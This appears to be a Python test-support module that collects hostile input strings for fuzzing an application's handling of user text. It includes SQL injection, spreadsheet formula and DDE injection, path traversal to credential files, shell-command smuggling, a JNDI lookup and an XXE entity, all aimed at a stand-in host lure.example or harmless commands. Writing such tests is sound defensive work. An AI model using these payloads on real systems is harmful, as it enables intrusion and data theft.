"""Words that try to be more than words: code, markup, formulas, paths and letters that mislead.

Every payload that could run sets `window.__hit` or asks `lure.example` for something, so that a
test sees it. `HOSTILE` maps each kind to its strings; no string is there twice.
"""

from __future__ import annotations

import unicodedata

from tests.support.hostile_markup import HIT, LURE, html, markdown, streamlit


def _sql() -> list[str]:
    ends = ["--", "/*", ";--", "#", ""]
    heads = ["'", '"', "')", '")', "`"]
    return [
        *(f"{head} or 1=1{end}" for head in heads for end in ends),
        "'; drop table wherefore.cards; --",
        '"; drop schema wherefore cascade; --',
        "x' union select card from wherefore.cards --",
        "1; attach 'lure.duckdb' as lure",
        "1; copy (select 42) to '/tmp/lure.csv'",
        "1; install httpfs; load httpfs",
        f"select * from read_csv('{LURE}/x.csv')",
        "select * from read_text('/etc/passwd')",
        "pragma database_list",
        "set enable_external_access=true",
        "select getenv('HOME')",
        "main.wherefore",
        "wherefore_row",
        "rowid",
        "select",
        "from",
        "null",
        "true",
        "order by 1",
        "group",
        "?",
        "$1",
        ":name",
        'a"b',
        'a""b',
        '"',
        '""',
        '"quoted"',
        "'quoted'",
        "semi;colon",
        "\\'; drop table x; --",
        "a /* b */ c",
        "%' like '%",
        "_%",
        "x::int",
        "cast(x as int)",
        "{'a': 1}",
        "[1, 2]",
        "list_value(1)",
        "columns(*)",
        "exclude (a)",
        "*",
    ]


def _formulas() -> list[str]:
    starts = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
    bodies = ["1+1", "cmd|' /C calc'!A0", f'HYPERLINK("{LURE}";"x")']
    return [
        *(f"{start}{body}" for start in starts for body in bodies),
        f'=WEBSERVICE("{LURE}")',
        f'=IMAGE("{LURE}/l.png")',
        f'=IMPORTXML("{LURE}";"//a")',
        '=DDE("cmd";"/C calc";"x")',
        '=MSEXCEL|"\\..\\..\\cmd.exe /c calc"!_xlbgnm.A1',
        "=SUM(A1:A9)",
        "=A1",
        "=@A1",
        "==1",
        "'=1+1",
        '"=1+1"',
        ";=1+1",
        ",=1+1",
        "%0A=1+1",
        "\u22121+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\u202e=1+1",
        "{=1+1}",
        "#REF!",
        "#N/A",
        "external:lure.xlsx",
        "internal:Sheet1!A1",
        "-",
        "+",
        "=",
        "@",
    ]


def _paths() -> list[str]:
    return [
        "../x",
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "..",
        ".",
        "....//....//etc/passwd",
        "%2e%2e%2fetc%2fpasswd",
        "/etc/passwd",
        "/dev/null",
        "/proc/self/environ",
        "~/.ssh/id_rsa",
        "~root",
        "C:\\Windows\\system32",
        "C:x",
        "\\\\lure.example\\share",
        "//lure.example/share",
        "\\\\?\\C:\\x",
        "file\x00.csv",
        "name\x00",
        "CON",
        "nul",
        "COM1.csv",
        "aux.txt",
        "a/b",
        "a\\b",
        ".hidden",
        "trailing.",
        "trailing ",
        "x.csv.exe",
        "x.csv::table",
        "x.duckdb::main.t",
        "::",
        "x.csv;type=text/html",
        "-rf",
        "--help",
        "--workspace=/tmp/lure",
        "$(touch /tmp/lure)",
        "`touch /tmp/lure`",
        "; touch /tmp/lure",
        "| touch /tmp/lure",
        "&& touch /tmp/lure",
        "$HOME",
        "%PATH%",
        "a\nb.csv",
    ]


def _letters() -> list[str]:
    turns = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    unseen = "\u00ad\u034f\u115f\u17b4\u180e\u200b\u200c\u200d\u2060\u2061\u2064\u3164\ufe0f\ufeff"
    controls = [chr(code) for code in (*range(1, 32), 127, *range(0x80, 0xA0, 5))]
    return [
        *(f"a{each}b" for each in turns),
        *(f"c{each}d" for each in unseen),
        *(f"e{each}f" for each in controls),
        "gpj.\u202eexe",
        "\u202egnihton\u202c",
        "\u2066\u2067nested\u2069\u2069",
        "\u05e9\u05dc\u05d5\u05dd",
        "\u0645\u0631\u062d\u0628\u0627 world",
        "\x1b[31mred\x1b[0m",
        "\x1b]0;title\x07",
        "\x1b]8;;http://lure.example\x1b\\link\x1b]8;;\x1b\\",
        "\x9b31mred",
        "back\b\b\b\bspace",
        "over\rwritten",
        "line\u2028line",
        "para\u2029graph",
        "next\u0085line",
        "Z\u0351\u036b\u0343a\u0322\u032cl\u0321g\u0489o",
        "x" + "\u0301" * 200,
        unicodedata.normalize("NFC", "caf\u00e9"),
        unicodedata.normalize("NFD", "caf\u00e9"),
        "pa\u0443pal",
        "\u0430dmin",
        "\u2160\u2161",
        "\ufb01ne",
        "\u017fhort",
        "\u0130stanbul",
        "stra\u00dfe",
        "\u1e9e",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "\U0001f1e9\U0001f1ea",
        "\U0001f44d\U0001f3fd",
        "\U0001f600" * 40,
        "\U000e0041\U000e0042",
        "\ue000private",
        "\uffff",
        "\ufdd0",
        "\ufffd",
        "\U0010ffff",
        "half \ud800 letter",
        "\udc00low",
        "\ud83d\ud83d",
        "\u6771\u4eac",
        "\uff21\uff22",
        "\u3000wide space",
        "\u00a0hard space",
        " leading",
        "  two  spaces  ",
        "a" * 300,
        "w " * 400,
        "long" * 2_000,
    ]


def _formats() -> list[str]:
    return [
        "%s",
        "%d%n",
        "%(name)s",
        "%%",
        "100%",
        "{0}",
        "{}",
        "{",
        "}",
        "{{}}",
        "{name}",
        "{outcome}",
        "{__class__}",
        "{0.__class__.__mro__}",
        "{!r}",
        "{:>1000000000}",
        "__import__('os').system('touch /tmp/lure')",
        "eval('1')",
        "lambda: 0",
        "self",
        "__class__",
        "\\n",
        "\\x41",
        "\\N{BULLET}",
        "%c0%ae",
        "${jndi:ldap://lure.example/a}",
        '"',
        "'",
        '"}',
        '{"a": 1}',
        '","b":"',
        "[null]",
        "\\u0000",
        "a,b",
        "a;b",
        "a\tb",
        'a","b',
        '"unclosed',
        "a\nb",
        "a\r\nb",
        "]]>",
        "<![CDATA[x]]>",
        '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
        "&y;",
        "<?xml version='1.0'?>",
        "<a:t>x</a:t>",
        "</a:t><a:hlinkClick/>",
        "_x0041_",
        "_x000D_",
        "_x0008_",
    ]


def _numbers() -> list[str]:
    return [
        "1e999",
        "-1e999",
        "1e-999",
        "NaN",
        "nan",
        "inf",
        "-Infinity",
        "-0",
        "0x1F",
        "0b1",
        "1_000",
        "1,5",
        "1.5.6",
        "00",
        "+1",
        "\u0663\u0664",
        "\u00bd",
        "\u2212" + "5",
        "9" * 60,
        "1/0",
        "NULL",
        "None",
        "N/A",
        "undefined",
        "True",
        "2024-13-45",
        "1970-01-01T00:00:00Z",
    ]


def _vega() -> list[str]:
    return [
        "datum.x",
        "datum['x']",
        "a.b",
        "a.b.c",
        "a[0]",
        "a['b']",
        "a]b",
        "a[b",
        "a\\.b",
        "a\\[b",
        "a'b",
        "a:Q",
        "a:N",
        "count()",
        "mean(a):Q",
        "a:b:c",
        "width",
        "event.item",
        f"'+({HIT})+'",
        '"+format(datum.value)+"',
        f"{{'signal': '{HIT}'}}",
        f'{{"expr": "{HIT}"}}',
        "row",
        "label",
        "value",
        "index",
        "__typename",
        "constructor",
        "__proto__",
        "toString",
    ]


def _distinct(texts: list[str], taken: set[str]) -> tuple[str, ...]:
    found = tuple(text for text in dict.fromkeys(texts) if text not in taken)
    taken.update(found)
    return found


_TAKEN: set[str] = set()
HOSTILE: dict[str, tuple[str, ...]] = {
    kind: _distinct(texts, _TAKEN)
    for kind, texts in (
        ("sql", _sql()),
        ("html", html()),
        ("markdown", markdown()),
        ("streamlit", streamlit()),
        ("formula", _formulas()),
        ("path", _paths()),
        ("letters", _letters()),
        ("format", _formats()),
        ("number", _numbers()),
        ("vega", _vega()),
    )
}
EVERY: tuple[str, ...] = tuple(text for texts in HOSTILE.values() for text in texts)
"""All of them, kind by kind."""


def blocks(size: int) -> list[tuple[str, ...]]:
    """All of them, so many at a time."""
    return [EVERY[start : start + size] for start in range(0, len(EVERY), size)]
